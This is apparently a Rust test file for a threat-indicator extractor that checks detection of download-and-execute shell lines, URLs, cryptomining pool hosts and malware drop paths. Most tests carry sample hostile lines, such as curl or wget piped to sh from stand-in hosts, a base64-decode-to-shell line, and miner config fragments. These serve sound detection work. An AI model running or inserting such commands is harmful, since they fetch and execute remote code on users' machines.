//! Forms that were missed, and what only looked like one: forms of printf, glued strings, manuals.

use super::{all_of, carve, none_of, of, shown};

#[test]
fn downloads_without_a_scheme() {
    for line in [
        "wget 203.0.113.7/a.sh -O- | sh",
        "wget -O- 203.0.113.7/a.sh | sh",
        "wget -q 203.0.113.7/a.sh -O- |sh",
        "curl -s evil.com/x | bash",
        "curl -fsSL evil.com/x |sh",
    ] {
        assert_eq!(of(line, "shell"), [line], "{}", shown(&carve(line)));
    }
    for line in [
        "curl%20-fsSL%20http%3A%2F%2F203.0.113.7%2Fa%20%7C%20sh",
        "x=curl%20-fsSL%20http://203.0.113.7/a%20%7C%20sh",
    ] {
        assert_eq!(
            of(line, "shell"),
            ["curl -fsSL http://203.0.113.7/a | sh"],
            "{}",
            shown(&carve(line))
        );
    }
    none_of(
        &["shell"],
        &["usage: wget -O- URL | shasum", "curl - a tool | see its manual", "curl -s evil.com/x"],
    );
}

#[test]
fn names_and_addresses_in_other_writing() {
    all_of(
        "url",
        &[
            ("http://evil.xn--p1ai/x", "http://evil.xn--p1ai/x"),
            ("http://evil.xn--fiqs8s:8080/x", "http://evil.xn--fiqs8s:8080/x"),
            ("ftp://[2001:db8::1]", "ftp://[2001:db8::1]"),
        ],
    );
    all_of("stratum", &[("stratum+ssl://[2001:db8::1]:3333", "stratum+ssl://[2001:db8::1]:3333")]);
    all_of("pool", &[("stratum+tcp://pool.evil.xn--p1ai:3333", "pool.evil.xn--p1ai:3333")]);
}

#[test]
fn what_a_form_leaves_is_no_name_of_its_own() {
    let text = "\"url\": \"pool.%s.bad.site:3333\", \"donate-level\": 1, \"algo\": \"rx/0\" stratum+tcp://%s.bad.site:14444 {}.bad.site:443";
    none_of(&["pool", "domain"], &[text]);
    all_of(
        "stratum",
        &[("stratum+tcp://pool.%s.bad.site:14444", "stratum+tcp://pool.%s.bad.site:14444")],
    );
    all_of("url", &[("http://pool.%s.bad.site:80/x", "http://pool.%s.bad.site:80/x")]);
    all_of("domain", &[("%s.luckpool.net", "luckpool.net")]);
    none_of(&["email"], &["s%s@appspot.gserviceaccount.comerror"]);
}

#[test]
fn strings_that_lie_one_behind_the_other_are_told_apart() {
    let urls = of(
        "https://iap.bad.site/v2/https://iap.bad.site/v1/https://own.bad.site/x,http://198.51.100.7/a",
        "url",
    );
    assert_eq!(
        urls,
        [
            "https://iap.bad.site/v2/",
            "https://iap.bad.site/v1/",
            "https://own.bad.site/x",
            "http://198.51.100.7/a"
        ]
    );
    all_of("url", &[("http://bad.site/%s[WARNING] x", "http://bad.site/%s")]);
    // An argument of another is its own.
    assert_eq!(of("http://bad.site/p?u=http://other.site/x", "url").len(), 2);
    none_of(&["url"], &["http://www.manifestations", "http://www.in"]);
}

#[test]
fn name_servers_of_everybody_alone_lead_nowhere() {
    none_of(&["address"], &["\u{0}198.41.0.4\u{0}", "\u{0}208.67.222.222\u{0}"]);
    all_of(
        "address",
        &[
            ("\u{0}203.0.113.66\u{0}", "203.0.113.66"),
            ("stratum+tcp://\u{0}208.67.222.222\u{0}", "208.67.222.222"),
            ("connect 208.67.222.222\u{0}", "208.67.222.222"),
        ],
    );
}

#[test]
fn what_manuals_say_of_files_is_no_drop() {
    none_of(
        &["drop"],
        &[
            "  * Copyright file moved to /usr/doc/bash/copyright",
            "the client is installed in /usr/sbin",
            "program installed in /usr/lib/x/y",
            "the script was copied to /usr/share/x",
        ],
    );
    all_of(
        "drop",
        &[
            ("implant file moved to /opt/x/y", "/opt/x/y"),
            ("file moved to /usr/sbin/cron2", "/usr/sbin/cron2"),
            ("agent installed in /opt/agent/run", "/opt/agent/run"),
        ],
    );
}

#[test]
fn reasons_are_true() {
    let text = "\"pools\":[{\"url\":\"stratum+tcp://xmr.bad.site:3333\",\"user\":\"a\",\"pass\":\"x\"}],\"donate-level\":1\ncurl http://203.0.113.7/x";
    let found = carve(text);
    let pool = found.iter().find(|c| c.kind == "pool").unwrap();
    assert_eq!(pool.why, "the host of a mining URL");
    assert!(found.iter().all(|c| c.kind != "address"), "{}", shown(&found));
}

#[test]
fn a_shell_line_that_is_cut_begins_with_a_word() {
    let line = format!("echo {} | base64 -d | sh", "IyBhIG".repeat(100));
    assert_eq!(of(&line, "shell"), ["| base64 -d | sh"], "{}", shown(&carve(&line)));
}
